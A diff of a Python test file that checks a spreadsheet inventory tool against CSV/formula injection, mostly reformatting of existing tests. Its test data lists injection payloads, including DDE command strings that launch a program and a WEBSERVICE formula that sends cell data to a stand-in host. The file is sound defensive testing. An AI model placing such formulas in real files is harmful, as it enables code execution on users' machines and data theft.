@@ -1,4 +1,4 @@
-"""Text that begins like a formula is text in every table, after every button, in the saved file and in every export.
+"""Text that begins like a formula is text in every table, in the saved file and in every export.
 
 What a spreadsheet takes for a formula, and how a CSV file is guarded: OWASP, CSV Injection.
 """
@@ -29,11 +29,19 @@ from xlinventory.workbook import Workbook
 TODAY = 45000.0
 FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","click")',
-    '=WEBSERVICE("http://x.example/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"!\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", '"=1+1', "'=1+1",
+    '=WEBSERVICE("http://x.example/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"!\")", "＝1+1", "＋1+1", "－1+1",
+    "＠SUM(A1)", '"=1+1', "'=1+1",
     "{=1+1}", "=1+1\n=2+2",
 )  # fmt: skip
 TABLES_READ = ("Items", "Suppliers", "SupplierPrices", "PurchaseOrders", "Movements")
-VALUES = {Kind.DATE: "2011-12-09", Kind.NUMBER: "1", Kind.WHOLE: "1", Kind.MONEY: "2.5", Kind.RATIO: "0.5", Kind.YES_NO: "yes"}
+VALUES = {
+    Kind.DATE: "2011-12-09",
+    Kind.NUMBER: "1",
+    Kind.WHOLE: "1",
+    Kind.MONEY: "2.5",
+    Kind.RATIO: "0.5",
+    Kind.YES_NO: "yes",
+}
 
 
 def text_columns(table: str) -> list[str]:
@@ -56,9 +64,12 @@ def write_files(folder: Path) -> None:
         writer.writerow([field.name for field in fields])
         for formula in FORMULAS:
             writer.writerow([
-                field.column.choices[0] if field.column.choices else VALUES.get(field.column.kind, formula) for field in fields
+                field.column.choices[0] if field.column.choices else VALUES.get(field.column.kind,
+                formula) for field in fields
             ])  # fmt: skip
-        (folder / f"{'sales' if table == 'Movements' else table.lower()}.csv").write_text(out.getvalue(), "utf-8")
+        (folder / f"{'sales' if table == 'Movements' else table.lower()}.csv").write_text(
+            out.getvalue(), "utf-8"
+        )
 
 
 def file_book(path: Path) -> FileWorkbook:
@@ -66,7 +77,11 @@ def file_book(path: Path) -> FileWorkbook:
     with xlsxwriter.Workbook(path) as book:
         for name, table in TABLES.items():
             sheet = book.add_worksheet(name)
-            rows = [[s.name, TODAY if s.name == "as_of" else s.value] for s in SETTINGS] if name == "Settings" else []
+            rows = (
+                [[s.name, TODAY if s.name == "as_of" else s.value] for s in SETTINGS]
+                if name == "Settings"
+                else []
+            )
             columns = [{"header": column} for column in table.names]
             sheet.add_table(0, 0, max(len(rows), 1), len(columns) - 1, {"name": name, "columns": columns})
             for number, row in enumerate(rows, 1):
@@ -115,7 +130,13 @@ def test_no_cell_of_the_file_is_a_formula(saved: Path) -> None:
     """Read as XML, and by another program."""
     assert formulas_in(saved) == []
     book = load_workbook(saved)
-    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
+    kinds = {
+        cell.data_type
+        for sheet in book
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
     assert kinds == {"s"}
     assert not book.defined_names
     assert book.sheetnames == list(TABLES)
@@ -141,12 +162,19 @@ def exported(folder: Path) -> Path:
     """Orders whose every text is a formula, written to files."""
     book = empty_book()
     rows = [
-        {"po": formula, "supplier": f"{formula} Ltd", "sku": formula, "order_date": TODAY, "promised_date": TODAY + 7,
+        {"po": formula, "supplier": f"{formula} Ltd", "sku": formula, "order_date": TODAY,
+        "promised_date": TODAY + 7,
          "quantity": 2.0, "unit_price": 1.5, "status": "open"}
         for formula in FORMULAS
     ]  # fmt: skip
-    book.write_table("PurchaseOrders", pd.DataFrame(rows, columns=TABLES["PurchaseOrders"].names, dtype=object))
-    items = pd.DataFrame([{"sku": formula, "name": f"{formula} <b>x</b>"} for formula in FORMULAS], columns=TABLES["Items"].names, dtype=object)
+    book.write_table(
+        "PurchaseOrders", pd.DataFrame(rows, columns=TABLES["PurchaseOrders"].names, dtype=object)
+    )
+    items = pd.DataFrame(
+        [{"sku": formula, "name": f"{formula} <b>x</b>"} for formula in FORMULAS],
+        columns=TABLES["Items"].names,
+        dtype=object,
+    )
     book.write_table("Items", items)
     run_macro(book, "export", folder=str(folder))
     return folder
@@ -178,7 +206,7 @@ def test_no_sign_before_it_hides_a_formula(sign: str) -> None:
 
 
 def test_a_message_repeats_text_as_text() -> None:
-    """What a button says holds the text itself: a message box and a terminal show it, nobody calculates it."""
+    """What a button says holds the text itself: it is shown, nobody calculates it."""
     book = empty_book()
     row = {"date": TODAY, "sku": "=1+1", "kind": "=cmd|' /C calc'!A0", "quantity": 1.0}
     book.write_table("Movements", pd.DataFrame([row], columns=TABLES["Movements"].names, dtype=object))
